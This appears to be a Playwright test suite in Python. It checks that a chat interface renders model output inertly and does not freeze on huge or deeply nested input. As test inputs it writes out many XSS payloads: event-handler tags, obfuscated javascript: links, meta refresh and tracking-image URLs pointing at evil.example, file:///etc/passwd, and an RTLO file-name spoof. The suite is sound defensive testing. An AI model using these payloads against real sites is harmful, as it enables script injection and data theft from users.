"""What a model writes neither runs, nor calls out, nor freezes the page.

That no script ran, no dialog opened and no request left for another origin is checked for every test by
the `page` fixture.
"""

import asyncio
from collections.abc import AsyncIterator

import pytest
import pytest_asyncio
from playwright.async_api import Locator, Page, expect
from support.chat_page import ChatPage
from support.http_competitor import HttpCompetitor
from support.ui_answers import STEPS, artifact, janus, said

pytestmark = pytest.mark.asyncio(loop_scope="session")

FREEZE_SECONDS = 2.0  # within which the page must still answer, on a machine that does other things too
EVIL = "http://evil.example"
RENDERED = ".markdown, .plain-text"


class Shown:
    """Has the competitor say something, and gives the answer that the page made of it."""

    def __init__(self, page: Page, competitor: HttpCompetitor) -> None:
        self._chat = ChatPage(page)
        self._page = page
        self._competitor = competitor

    async def __call__(self, text: str, *before: dict[str, object], piece: int = 400) -> Locator:
        self._competitor.chat = said(text, *before, piece=piece)
        await self._chat.open()
        answer = await self._chat.ask("Go")
        await expect(answer).not_to_have_attribute("data-status", "streaming", timeout=25_000)
        await expect(
            answer.locator(RENDERED).first
        ).to_be_visible()  # not what stands there until it is loaded
        await self._responds()
        return answer

    async def _responds(self) -> None:
        async with asyncio.timeout(FREEZE_SECONDS):
            await self._page.evaluate("() => new Promise(requestAnimationFrame)")


@pytest_asyncio.fixture(loop_scope="session")
async def shown(page: Page, competitor: HttpCompetitor) -> AsyncIterator[Shown]:
    yield Shown(page, competitor)
    assert await page.evaluate("window.pwned") is None


async def test_a_script_is_text(shown: Shown) -> None:
    answer = await shown("<script>window.pwned = 1</script>\n\nand <script src=//evil.example/x.js></script>")
    await expect(answer).to_contain_text("<script>window.pwned = 1</script>")
    await expect(answer.locator("script")).to_have_count(0)


@pytest.mark.parametrize(
    "html",
    [
        "<img src=x onerror='window.pwned=1'>",
        "<svg onload='window.pwned=1'><circle r=9></svg>",
        "<a href=# onmouseover='window.pwned=1'>over</a>",
        "<details open ontoggle='window.pwned=1'>x</details>",
        "<body onload='window.pwned=1'>",
        "<input autofocus onfocus='window.pwned=1'>",
    ],
)
async def test_an_event_handler_is_text(shown: Shown, html: str) -> None:
    answer = await shown(html)
    await expect(answer.locator("[onerror], [onload], [onmouseover], [ontoggle], [onfocus]")).to_have_count(0)
    await expect(answer).to_contain_text("window.pwned=1")


@pytest.mark.parametrize(
    "html",
    [
        f"<iframe src={EVIL}></iframe>",
        f"<form action={EVIL}><button>Pay</button></form>",
        f"<meta http-equiv=refresh content='0;url={EVIL}'>",
        f"<link rel=stylesheet href={EVIL}/x.css>",
        f"<style>@import url({EVIL}/x.css)</style>",
        f"<object data={EVIL}></object>",
        f"<base href={EVIL}>",
    ],
)
async def test_an_element_that_loads_or_leads_away_is_text(shown: Shown, page: Page, html: str) -> None:
    answer = await shown(html)
    await expect(answer.locator("iframe, form, meta, link, style, object, base")).to_have_count(0)
    assert "/chat" in page.url


@pytest.mark.parametrize(
    "url",
    [
        "javascript:window.pwned=1",
        "JaVaScRiPt:window.pwned=1",
        "java&#115;cript:window.pwned=1",
        "data:text/html,<script>window.pwned=1</script>",
        "vbscript:x",
        "file:///etc/passwd",
    ],
)
async def test_a_link_that_would_run_is_no_link(shown: Shown, url: str) -> None:
    answer = await shown(f"[click me](<{url}>)")
    await expect(answer).to_contain_text("click me")
    await expect(answer.locator(".markdown a")).to_have_count(0)


async def test_a_link_opens_elsewhere_and_tells_nothing_of_where_it_stood(shown: Shown) -> None:
    link = (await shown(f"[read]({EVIL}/page)")).get_by_role("link", name="read")
    await expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
    await expect(link).to_have_attribute("target", "_blank")


async def test_a_link_that_claims_to_lead_elsewhere_is_exposed(shown: Shown) -> None:
    answer = await shown(f"[https://bank.example/login]({EVIL}/login)")
    await expect(answer).to_contain_text("(leads to evil.example)")


@pytest.mark.parametrize(
    "markdown",
    [
        f"![pixel]({EVIL}/p.png?secret=1)",
        f"![ref][r]\n\n[r]: {EVIL}/p.png",
        "![proto](//evil.example/p.png)",
        f"[![in a link]({EVIL}/p.png)]({EVIL})",
        "![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
        f"| ![cell]({EVIL}/p.png) |\n|---|\n| x |",
    ],
)
async def test_a_tracking_picture_is_named_and_not_loaded(shown: Shown, markdown: str) -> None:
    answer = await shown(markdown)
    await expect(answer.locator(".markdown img")).to_have_count(0)
    await expect(answer).to_contain_text("not loaded")


async def test_a_diagram_cannot_run_or_call_out(shown: Shown) -> None:
    answer = await shown(
        "```mermaid\nflowchart LR\n"
        f"  A[\"<img src='{EVIL}/x' onerror='window.pwned=1'>\"] --> B\n"
        '  click A "javascript:window.pwned=1"\n'
        '  click B call alert("x")\n```\n'
    )
    await expect(answer.locator("svg[id^=mermaid]")).to_be_visible()
    await expect(answer.locator("svg[id^=mermaid] script, svg[id^=mermaid] [onerror]")).to_have_count(0)
    await expect(answer.locator("a[*|href^='javascript']")).to_have_count(0)


async def test_math_cannot_make_links_or_load_pictures(shown: Shown) -> None:
    answer = await shown(
        f"$$\n\\href{{javascript:window.pwned=1}}{{x}} \\includegraphics{{{EVIL}/x.png}}\n$$\n"
    )
    await expect(answer.locator(".katex-display")).to_be_visible()
    await expect(answer.locator(".markdown a, .markdown img")).to_have_count(0)


async def test_a_huge_table_does_not_freeze_the_page(shown: Shown) -> None:
    rows = "".join(f"| {row} | {'cell ' * 8}| {row * row} |\n" for row in range(2000))
    answer = await shown("| a | b | c |\n|---|---|---|\n" + rows, piece=4000)
    await expect(answer).to_contain_text("| 1999 |")


async def test_a_line_of_a_hundred_thousand_letters_does_not_freeze_or_widen_the_page(
    shown: Shown, page: Page
) -> None:
    await shown("x" * 100_000, piece=4000)
    assert await page.evaluate("document.documentElement.scrollWidth <= innerWidth")


async def test_a_line_of_code_of_a_hundred_thousand_letters_does_not_either(shown: Shown, page: Page) -> None:
    await shown("```js\n" + "a(" * 50_000 + "\n```\n", piece=4000)
    assert await page.evaluate("document.documentElement.scrollWidth <= innerWidth")


async def test_deep_nesting_does_not_freeze_the_page(shown: Shown) -> None:
    await shown("> " * 3000 + "deep\n\n" + "- " * 1500 + "deeper\n\n" + "[" * 3000 + "*" * 3000, piece=4000)


async def test_an_unclosed_fence_holds_its_text_and_ends_with_its_answer(shown: Shown, page: Page) -> None:
    answer = await shown("```python\nprint('never closed')\n")
    await expect(answer.locator("pre")).to_contain_text("print('never closed')")
    chat = ChatPage(page)
    await expect(await chat.ask_whole("And then?")).to_contain_text("never closed")
    await expect(chat.questions.last).to_contain_text("And then?")


async def test_text_cannot_turn_the_reading_direction_of_what_surrounds_it(shown: Shown) -> None:
    answer = await shown("pay\u202ednuof\u202c and \u2067reversed\u2069")
    await expect(answer).to_contain_text("nuof")
    text = await answer.inner_text()
    assert not set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069") & set(text)


async def test_right_to_left_text_reads_from_the_right(shown: Shown) -> None:
    answer = await shown("שלום עולם, זה טקסט בעברית")
    await expect(answer.get_by_text("שלום").first).to_have_css("direction", "rtl")


async def test_a_file_name_cannot_hide_what_it_is(shown: Shown) -> None:
    answer = await shown("Here.", artifact("invoice\u202efdp\u200b.exe", b"MZ", "application/octet-stream"))
    await expect(answer.get_by_test_id("artifact")).to_contain_text("invoicefdp.exe")


async def test_an_artifact_of_svg_is_a_file_and_not_a_picture(shown: Shown) -> None:
    svg = b"<svg xmlns='http://www.w3.org/2000/svg' onload='window.pwned=1'/>"
    answer = await shown("Here.", artifact("x.svg", svg, "image/svg+xml", kind="image"))
    await expect(answer.get_by_test_id("artifact")).to_contain_text("x.svg")
    await expect(answer.get_by_test_id("artifact").locator("img")).to_have_count(0)


async def test_steps_and_reasoning_are_text(shown: Shown, page: Page) -> None:
    html = "<img src=x onerror='window.pwned=1'>"
    answer = await shown("Done.", *STEPS, janus("tool_start", tool=html, input=html), janus(html, a=html))
    await answer.locator("summary").click()
    await expect(answer.get_by_test_id("step").last).to_contain_text("onerror")
    await expect(answer.locator("img")).to_have_count(0)


async def test_figures_that_are_no_figures_are_left_out(shown: Shown) -> None:
    answer = await shown("Done.", janus("route", competitor_id={"x": 1}, attempt="<b>"))
    await expect(answer).to_contain_text("Done.")
